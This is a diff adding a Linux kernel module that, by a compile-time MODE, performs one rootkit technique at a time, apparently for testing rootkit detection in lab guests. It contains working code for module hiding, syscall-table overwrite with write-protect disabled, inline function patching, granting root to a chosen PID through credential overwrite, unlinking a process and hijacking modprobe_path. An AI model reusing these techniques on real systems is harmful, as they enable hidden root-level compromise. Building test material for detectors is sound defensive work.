@@ -1,0 +1,148 @@
+/* SPDX-License-Identifier: GPL-2.0-or-later */
+/*
+ * Each module that includes this does one thing that rootkits do, by MODE, and nothing
+ * else: nothing is stolen, opened or sent. For tests of outsight check, in guests of the lab.
+ */
+#include <linux/cred.h>
+#include <linux/delay.h>
+#include <linux/ftrace.h>
+#include <linux/kprobes.h>
+#include <linux/kthread.h>
+#include <linux/module.h>
+#include <linux/netfilter.h>
+#include <linux/netfilter_ipv4.h>
+#include <linux/pid.h>
+#include <linux/sched/signal.h>
+#include <linux/version.h>
+
+MODULE_LICENSE("GPL");
+MODULE_DESCRIPTION("one trick of a rootkit, for a test");
+
+#if LINUX_VERSION_CODE < KERNEL_VERSION(5, 11, 0)
+typedef struct pt_regs callback_regs;
+#define RECURSION FTRACE_OPS_FL_RECURSION_SAFE
+#else
+typedef struct ftrace_regs callback_regs;
+#define RECURSION FTRACE_OPS_FL_RECURSION
+#endif
+
+static int victim;
+module_param(victim, int, 0);
+
+static unsigned long symbol(const char *name)
+{
+	static struct kprobe probe;
+	unsigned long (*lookup)(const char *);
+
+	probe.symbol_name = "kallsyms_lookup_name"; /* not exported since 5.7 */
+	if (register_kprobe(&probe))
+		return 0;
+	lookup = (void *)probe.addr;
+	unregister_kprobe(&probe);
+	return lookup(name);
+}
+
+static void write_protect(int on)
+{
+	unsigned long cr0;
+
+	asm volatile("mov %%cr0, %0" : "=r"(cr0));
+	cr0 = on ? cr0 | X86_CR0_WP : cr0 & ~X86_CR0_WP;
+	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
+}
+
+static void hide_module(void)
+{
+	list_del_init(&THIS_MODULE->list);
+	kobject_del(&THIS_MODULE->mkobj.kobj);
+}
+
+static struct task_struct *victim_task(void)
+{
+	return pid_task(find_vpid(victim), PIDTYPE_PID);
+}
+
+static int wait_for_ever(void *unused)
+{
+	while (!kthread_should_stop())
+		msleep(500);
+	return 0;
+}
+
+static unsigned int accept_all(void *p, struct sk_buff *skb, const struct nf_hook_state *state)
+{
+	return NF_ACCEPT;
+}
+
+static long do_nothing(const struct pt_regs *regs)
+{
+	return 0;
+}
+
+static int probe_nothing(struct kprobe *p, struct pt_regs *regs)
+{
+	return 0;
+}
+
+static void notrace trace_nothing(unsigned long ip, unsigned long parent, struct ftrace_ops *op, callback_regs *regs)
+{
+}
+
+static struct nf_hook_ops hook __maybe_unused = { .hook = accept_all, .pf = NFPROTO_IPV4, .hooknum = NF_INET_PRE_ROUTING, .priority = -300 };
+static struct kprobe probe __maybe_unused = { .symbol_name = "vfs_read", .pre_handler = probe_nothing };
+static struct ftrace_ops ops __maybe_unused = { .func = trace_nothing, .flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_IPMODIFY | RECURSION };
+
+static int __init trick_init(void)
+{
+	struct task_struct *t = victim_task();
+	int keep = 0; /* loaded: 0, or an error where the trick needs no module any more */
+
+#if MODE == 1 /* a thread of a module that hides */
+	kthread_run(wait_for_ever, NULL, "kworker/9:9");
+	hide_module();
+#elif MODE == 2 /* a packet hook of a module that hides */
+	nf_register_net_hook(&init_net, &hook);
+	hide_module();
+#elif MODE == 3 /* a probe of a module that hides */
+	register_kprobe(&probe);
+	hide_module();
+#elif MODE == 4 /* a function traced, to be replaced, by a module that hides */
+	ftrace_set_filter(&ops, "tcp4_seq_show", 13, 0);
+	register_ftrace_function(&ops);
+	hide_module();
+#elif MODE == 5 /* a system call in the table */
+	unsigned long *table = (void *)symbol("sys_call_table");
+
+	write_protect(0);
+	table[62] = (unsigned long)do_nothing;
+	write_protect(1);
+#elif MODE == 6 /* a jump in a function of the kernel, behind its place for tracing */
+	unsigned char *f = (void *)symbol("udp4_seq_show");
+	int distance = (unsigned char *)do_nothing - (f + 14);
+
+	write_protect(0);
+	f[9] = 0xe9;
+	memcpy(f + 10, &distance, 4);
+	write_protect(1);
+#elif MODE == 7 /* root by writing into the credentials */
+	struct cred *c = (struct cred *)t->cred;
+
+	c->uid = c->euid = c->suid = c->fsuid = GLOBAL_ROOT_UID;
+	c->cap_effective = c->cap_permitted = CAP_FULL_SET;
+	keep = -EAGAIN;
+#elif MODE == 8 /* root by borrowing the kernel's credentials */
+	rcu_assign_pointer(t->real_cred, init_task.cred);
+	rcu_assign_pointer(t->cred, init_task.cred);
+	keep = -EAGAIN;
+#elif MODE == 9 /* a process off the list */
+	list_del_init(&t->tasks);
+	keep = -EAGAIN;
+#elif MODE == 10 /* what the kernel runs for a missing module */
+	strcpy((char *)symbol("modprobe_path"), "/tmp/x");
+	keep = -EAGAIN;
+#endif
+	(void)t, (void)symbol, (void)write_protect, (void)hide_module, (void)wait_for_ever, (void)accept_all;
+	(void)do_nothing, (void)probe_nothing, (void)trace_nothing;
+	return keep;
+}
+module_init(trick_init);
